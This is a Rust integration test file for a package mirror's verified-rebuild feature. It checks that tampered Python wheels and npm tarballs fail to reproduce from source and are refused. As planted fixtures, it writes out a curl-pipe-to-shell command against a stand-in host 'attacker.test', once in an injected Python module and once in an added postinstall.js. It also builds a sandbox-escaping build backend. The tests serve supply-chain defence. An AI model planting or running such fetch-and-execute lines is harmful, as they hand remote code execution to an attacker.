//! Issue 16: verified rebuilds. A node run with `--rebuild` rebuilds each pure-Python wheel
//! it verifies from the release's sdist, in a bubblewrap sandbox without network, with the
//! build backend pinned from the wheel's `WHEEL` Generator, and commits the verdict:
//! reproduced bit for bit, reproduced after stabilising, or not reproduced with every
//! differing entry named; a build that fails (here: a backend trying to leave the sandbox)
//! is unverifiable. `pyrsia verify --require-reproduced`, `pyrsia rebuilds`, `inspect-log`
//! and `--verified-only=reproduced` read the verdicts.
//!
//! An npm version is repacked by the npm CLI that published it: what a repack leaves out
//! (a file added to the tarball after packing) is named.
//!
//! The packages are built here with flit_core and `SOURCE_DATE_EPOCH` or packed by a pinned
//! npm; the upstreams are pypiserver and verdaccio, the clients pip and npm; a four-member
//! network has a byzantine rebuilder; every process is real.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use pyrsia_tests::http::get;
use pyrsia_tests::node::Node;
use pyrsia_tests::output::{assert_ok, text};
use pyrsia_tests::pypi::{PypiServer, pip_install};
use pyrsia_tests::pyrsia;
use pyrsia_tests::rebuild::{
    escaping_sdist, flit_build, flit_core_wheel, inject_into_wheel, restamp_wheel,
};
use serde_json::Value;

const VERDICT_WAIT: Duration = Duration::from_secs(300);
const EPOCH: u64 = 1_700_000_000;

/// Waits until the node's log holds `count` rebuild verdicts; returns them by project.
fn wait_verdicts(node: &Node, count: usize) -> Vec<Value> {
    let deadline = Instant::now() + VERDICT_WAIT;
    loop {
        let answer: Value = get(&format!("{}/pyrsia/log/rebuilds", node.url()))
            .ok()
            .and_then(|r| serde_json::from_str(&r.small_body).ok())
            .unwrap_or_default();
        let rebuilds = answer["rebuilds"].as_array().cloned().unwrap_or_default();
        if rebuilds.len() >= count {
            return rebuilds;
        }
        assert!(
            Instant::now() < deadline,
            "{} of {count} rebuild verdicts after {VERDICT_WAIT:?}\n{}",
            rebuilds.len(),
            node.log()
        );
        std::thread::sleep(Duration::from_millis(250));
    }
}

fn verdict_of<'v>(verdicts: &'v [Value], name: &str) -> &'v Value {
    verdicts
        .iter()
        .find(|v| v["name"] == name)
        .unwrap_or_else(|| panic!("no verdict for {name}: {verdicts:?}"))
}

fn copy_into(file: &Path, dir: &Path) {
    std::fs::copy(file, dir.join(file.file_name().unwrap())).unwrap();
}

/// The upstream's packages directory, holding the flit_core wheel rebuilds fetch, and the
/// releases built with flit into it.
struct UpstreamPackages {
    packages: PathBuf,
    build: PathBuf,
}

impl UpstreamPackages {
    fn new(work: &Path) -> UpstreamPackages {
        let packages = work.join("packages");
        std::fs::create_dir_all(&packages).unwrap();
        copy_into(&flit_core_wheel(), &packages);
        UpstreamPackages {
            packages,
            build: work.join("build"),
        }
    }

    /// Builds release `name` 1.0.0 with flit, lets `alter` change its wheel (an attacker, a
    /// release process), and puts its sdist and wheel in the packages directory.
    fn release(&self, name: &str, alter: impl Fn(&Path)) {
        let (sdist, wheel) = flit_build(&self.build, name, "1.0.0", EPOCH, &[]);
        alter(&wheel);
        copy_into(&sdist, &self.packages);
        copy_into(&wheel, &self.packages);
    }
}

#[test]
fn a_sole_member_rebuilds_wheels_from_source_and_commits_reproduced_stabilized_not_reproduced_and_unverifiable()
 {
    let work = tempfile::tempdir().unwrap();
    let build = work.path().join("build");
    let upstream = UpstreamPackages::new(work.path());
    let packages = upstream.packages.clone();
    // Bit for bit: the release as flit built it.
    upstream.release("demo-repro", |_| {});
    // The same wheel re-zipped later, with other times and order: only stabilised equal.
    upstream.release("demo-restamped", |wheel| {
        restamp_wheel(wheel, (2024, 5, 6, 7, 8, 10))
    });
    // A module injected into the wheel after the build: in no source.
    upstream.release("demo-injected", |wheel| {
        inject_into_wheel(
            wheel,
            "demo_injected/_telemetry.py",
            "import os\nos.system('curl attacker.test | sh')\n",
        )
    });
    // A release whose sdist's build backend tries to reach a listener of this test and to
    // write a file outside its build directory.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let escape_file = work.path().join("escaped-from-the-sandbox");
    let (_, wheel) = flit_build(&build, "demo-escape", "1.0.0", EPOCH, &[]);
    copy_into(&wheel, &packages);
    let port = listener.local_addr().unwrap().port();
    escaping_sdist(&packages, "demo-escape", "1.0.0", port, &escape_file);

    let upstream = PypiServer::start(&packages, work.path());
    let node_dir = work.path().join("node");
    let node = Node::start(
        &node_dir,
        &["--pypi-upstream", &upstream.simple_url(), "--rebuild"],
    );
    let logs = || node.log();
    let index = format!("{}/pypi/simple/", node.url());
    for (i, project) in [
        "demo-repro",
        "demo-restamped",
        "demo-injected",
        "demo-escape",
    ]
    .iter()
    .enumerate()
    {
        let out = pip_install(&index, &work.path().join(format!("t{i}")), &[project]);
        assert_ok(&out, "pip install", &logs);
    }
    // Four releases, and flit_core, which the rebuilds fetched through the node's mirror.
    let verdicts = wait_verdicts(&node, 5);
    let backend = verdict_of(&verdicts, "flit-core");
    assert_eq!(backend["verdict"], "unverifiable", "{backend}");
    assert_eq!(
        backend["failure"], "the release has no sdist to rebuild from",
        "{backend}"
    );

    let repro = verdict_of(&verdicts, "demo-repro");
    assert_eq!(repro["verdict"], "reproduced", "{repro}\n{}", node.log());
    assert_eq!(repro["rebuilt"], repro["upstream"], "{repro}");
    let recipe = repro["recipe"].as_str().unwrap();
    assert!(recipe.contains("backend flit_core==3.9.0"), "{recipe}");
    assert!(
        recipe.contains(&format!("SOURCE_DATE_EPOCH={EPOCH}")),
        "{recipe}"
    );
    assert!(recipe.contains("no network"), "{recipe}");

    let restamped = verdict_of(&verdicts, "demo-restamped");
    assert_eq!(
        restamped["verdict"],
        "reproduced-stabilized",
        "{restamped}\n{}",
        node.log()
    );
    assert_ne!(restamped["rebuilt"], restamped["upstream"], "{restamped}");

    let injected = verdict_of(&verdicts, "demo-injected");
    assert_eq!(
        injected["verdict"],
        "not-reproduced",
        "{injected}\n{}",
        node.log()
    );
    let entries = injected["diff"]["entries"].as_array().unwrap();
    let telemetry = entries
        .iter()
        .find(|e| e["name"] == "demo_injected/_telemetry.py")
        .unwrap_or_else(|| panic!("the injected module is not named: {injected}"));
    assert!(telemetry["rebuilt"].is_null(), "{telemetry}");
    assert!(
        telemetry["upstream"]["size"].as_u64() > Some(0),
        "{telemetry}"
    );

    let escape = verdict_of(&verdicts, "demo-escape");
    assert_eq!(
        escape["verdict"],
        "unverifiable",
        "{escape}\n{}",
        node.log()
    );
    assert_eq!(
        escape["failure"], "the build exited with status 1",
        "{escape}"
    );
    assert!(
        listener.accept().is_err(),
        "the build backend reached a socket outside the sandbox"
    );
    assert!(
        !escape_file.exists(),
        "the build backend wrote outside its sandbox"
    );

    // The light-client check prints the verdict and the recipe; --require-reproduced
    // passes only a reproduced release.
    let url = node.url();
    let out = pyrsia(&[
        "verify",
        "pypi",
        "--package",
        "demo-repro==1.0.0",
        "--require-reproduced",
        "--node",
        &url,
    ]);
    assert_ok(&out, "pyrsia verify --require-reproduced", &logs);
    let printed = text(&out);
    assert!(
        printed.contains("pypi-rebuild/v1 of demo_repro-1.0.0-py2.py3-none-any.whl"),
        "{printed}"
    );
    assert!(printed.contains(": reproduced"), "{printed}");
    assert!(printed.contains("backend flit_core==3.9.0"), "{printed}");
    let out = pyrsia(&[
        "verify",
        "pypi",
        "--package",
        "demo-injected==1.0.0",
        "--require-reproduced",
        "--node",
        &url,
    ]);
    assert!(!out.status.success(), "{}", text(&out));
    let printed = text(&out);
    assert!(
        printed.contains("demo_injected/_telemetry.py (not from source)"),
        "{printed}"
    );
    assert!(
        printed.contains("is not-reproduced (--require-reproduced)"),
        "{printed}"
    );
    // Without --require-reproduced the files still verify against their commit.
    let out = pyrsia(&[
        "verify",
        "pypi",
        "--package",
        "demo-injected==1.0.0",
        "--node",
        &url,
    ]);
    assert_ok(&out, "pyrsia verify", &logs);

    // The operator's listing of what did not reproduce, and the log's record.
    let out = pyrsia(&["rebuilds", "--verdict", "not-reproduced", "--node", &url]);
    assert_ok(&out, "pyrsia rebuilds", &logs);
    let listed = text(&out);
    assert!(listed.contains("demo-injected==1.0.0"), "{listed}");
    assert!(
        listed.contains("demo_injected/_telemetry.py: upstream"),
        "{listed}"
    );
    assert!(!listed.contains("demo-repro"), "{listed}");
    let out = pyrsia(&[
        "inspect-log",
        "pypi",
        "--package",
        "demo-injected",
        "--format",
        "csv",
        "--fields",
        "kind,ecosystem,version,build_type,verdict",
        "--node",
        &url,
    ]);
    assert_ok(&out, "inspect-log", &logs);
    let csv = text(&out);
    assert!(csv.contains("commit,pypi,1.0.0,pypi-fetch/v1,"), "{csv}");
    assert!(
        csv.contains("build-request,pypi-rebuild,1.0.0,pypi-rebuild/v1,"),
        "{csv}"
    );
    assert!(
        csv.contains("rebuilt,pypi-rebuild,1.0.0,pypi-rebuild/v1,not-reproduced"),
        "{csv}"
    );

    // Served reproduced-only: the reproduced releases install, the others are neither
    // listed nor served.
    let node = node.restart(
        &node_dir,
        &[
            "--pypi-upstream",
            &upstream.simple_url(),
            "--verified-only=reproduced",
        ],
    );
    let logs = || node.log();
    let index = format!("{}/pypi/simple/", node.url());
    for project in ["demo-repro", "demo-restamped"] {
        let out = pip_install(
            &index,
            &work.path().join(format!("r-{project}")),
            &[project],
        );
        assert_ok(&out, "pip install (reproduced-only)", &logs);
    }
    for project in ["demo-injected", "demo-escape"] {
        let out = pip_install(
            &index,
            &work.path().join(format!("r-{project}")),
            &[project],
        );
        assert!(!out.status.success(), "{project} installed: {}", text(&out));
    }
    let refused = get(&format!(
        "{}/pypi/files/demo-injected/demo_injected-1.0.0-py2.py3-none-any.whl",
        node.url()
    ))
    .unwrap();
    assert_eq!(refused.status, 404, "{refused:?}");
    assert!(refused.small_body.contains("not reproduced"), "{refused:?}");
}

#[test]
fn four_members_commit_the_honest_rebuild_verdict_over_a_byzantine_rebuilder_and_keep_the_evidence()
{
    use pyrsia_tests::members::Members;
    let work = tempfile::tempdir().unwrap();
    let upstream = UpstreamPackages::new(work.path());
    let packages = upstream.packages.clone();
    upstream.release("demo-repro", |_| {});
    upstream.release("demo-injected", |wheel| {
        inject_into_wheel(wheel, "demo_injected/_telemetry.py", "import os\n")
    });
    let upstream = PypiServer::start(&packages, work.path());
    let url = upstream.simple_url();
    // Member 3 attests `Reproduced` for every rebuild, selected or not.
    let members = Members::start(work.path(), "http://127.0.0.1:9", 4, &|i| {
        let mut args = vec![
            "--pypi-upstream".to_string(),
            url.clone(),
            "--rebuild".into(),
        ];
        if i == 3 {
            args.extend(["--test-byzantine".into(), "wrong-digest".into()]);
        }
        args
    });
    let logs = || members.logs();
    let index = format!("{}/pypi/simple/", members.nodes[0].url());
    for project in ["demo-repro", "demo-injected"] {
        let out = pip_install(
            &index,
            &work.path().join(format!("t-{project}")),
            &[project],
        );
        assert_ok(&out, "pip install", &logs);
    }
    for (i, node) in members.nodes.iter().enumerate() {
        for project in ["demo-repro", "demo-injected"] {
            node.wait_package_committed("pypi-rebuild", project, "1.0.0", VERDICT_WAIT)
                .unwrap_or_else(|| {
                    panic!("member {i}: no rebuild verdict of {project}\n{}", logs())
                });
        }
    }
    let verdicts = wait_verdicts(&members.nodes[2], 2);
    let injected = verdict_of(&verdicts, "demo-injected");
    assert_eq!(
        injected["verdict"],
        "not-reproduced",
        "{injected}\n{}",
        logs()
    );
    assert!(injected["attestations"].as_u64() >= Some(2), "{injected}");
    assert!(
        injected["diff"]["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["name"] == "demo_injected/_telemetry.py"),
        "{injected}"
    );
    assert_eq!(verdict_of(&verdicts, "demo-repro")["verdict"], "reproduced");
    // The liar attested, and its contradiction of the honest verdict is kept as evidence.
    assert!(
        members.nodes[3]
            .log()
            .contains("TEST BYZANTINE MEMBER: attesting a wrong digest"),
        "{}",
        logs()
    );
    let deadline = Instant::now() + Duration::from_secs(30);
    while !members.nodes[..3].iter().any(|n| {
        n.log()
            .contains("EVIDENCE: a member attested outputs that contradict a commit")
    }) {
        assert!(Instant::now() < deadline, "no evidence kept\n{}", logs());
        std::thread::sleep(Duration::from_millis(200));
    }

    // A light client trusting only the genesis reads the verdicts through another member.
    let genesis = members.genesis.to_str().unwrap().to_string();
    let node = members.nodes[1].url();
    let verify = |package: &str| {
        pyrsia(&[
            "verify",
            "pypi",
            "--package",
            package,
            "--require-reproduced",
            "--genesis",
            &genesis,
            "--node",
            &node,
        ])
    };
    assert_ok(
        &verify("demo-repro==1.0.0"),
        "pyrsia verify demo-repro",
        &logs,
    );
    let out = verify("demo-injected==1.0.0");
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("not-reproduced"), "{}", text(&out));
}

#[test]
fn npm_versions_are_repacked_by_the_npm_that_published_them_and_contents_added_after_packing_are_named()
 {
    use pyrsia_tests::npm::{Verdaccio, npm_install, write_package};
    use pyrsia_tests::rebuild::{add_to_tarball, npm_cli_tarball, npm_pack, pinned_npm};
    let work = tempfile::tempdir().unwrap();
    let registry = Verdaccio::start(&work.path().join("verdaccio"));
    // The registry serves the npm CLI that publishes (rebuilders fetch it through the node).
    registry.publish_with(
        std::process::Command::new("npm"),
        &npm_cli_tarball(),
        "latest",
    );
    let npm = || pinned_npm(&work.path().join("npm-cli"));
    // One package published as packed; one whose tarball got a file after packing that
    // its `files` list does not name.
    for name in ["demo-npm-packed", "demo-npm-altered"] {
        let dir = work.path().join(name);
        write_package(&dir, name, "1.0.0", &[]);
        let manifest = dir.join("package.json");
        let mut json: Value = serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
        json["files"] = serde_json::json!(["index.js"]);
        std::fs::write(&manifest, serde_json::to_vec_pretty(&json).unwrap()).unwrap();
        let tarball = npm_pack(npm(), &dir, &work.path().join("dist"));
        if name == "demo-npm-altered" {
            add_to_tarball(
                &tarball,
                "lib/postinstall.js",
                "require('child_process').exec('curl attacker.test | sh')\n",
            );
        }
        registry.publish_with(npm(), &tarball, "latest");
    }
    let node = Node::start(
        &work.path().join("node"),
        &["--npm-upstream", &registry.url(), "--rebuild"],
    );
    let logs = || node.log();
    let project = work.path().join("consumer");
    write_package(
        &project,
        "consumer",
        "0.0.0",
        &[("demo-npm-packed", "1.0.0"), ("demo-npm-altered", "1.0.0")],
    );
    let out = npm_install(
        &format!("{}/npm/", node.url()),
        &project,
        &work.path().join("cache"),
    );
    assert_ok(&out, "npm install", &logs);
    let verdicts = wait_verdicts(&node, 2);
    let packed = verdict_of(&verdicts, "demo-npm-packed");
    assert_eq!(packed["verdict"], "reproduced", "{packed}\n{}", node.log());
    assert!(
        packed["recipe"]
            .as_str()
            .unwrap()
            .contains("npm pack of npm 11.19.1 (its publisher)"),
        "{packed}"
    );
    let altered = verdict_of(&verdicts, "demo-npm-altered");
    assert_eq!(
        altered["verdict"],
        "not-reproduced",
        "{altered}\n{}",
        node.log()
    );
    let named = altered["diff"]["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "package/lib/postinstall.js")
        .unwrap_or_else(|| panic!("the added file is not named: {altered}"));
    assert!(named["rebuilt"].is_null(), "{named}");

    let url = node.url();
    let out = pyrsia(&[
        "verify",
        "npm",
        "--package",
        "demo-npm-packed@1.0.0",
        "--require-reproduced",
        "--node",
        &url,
    ]);
    assert_ok(&out, "pyrsia verify npm --require-reproduced", &logs);
    assert!(
        text(&out).contains("npm-rebuild/v1 of demo-npm-packed-1.0.0.tgz"),
        "{}",
        text(&out)
    );
    let out = pyrsia(&[
        "verify",
        "npm",
        "--package",
        "demo-npm-altered@1.0.0",
        "--require-reproduced",
        "--node",
        &url,
    ]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(
        text(&out).contains("package/lib/postinstall.js (not from source)"),
        "{}",
        text(&out)
    );
}
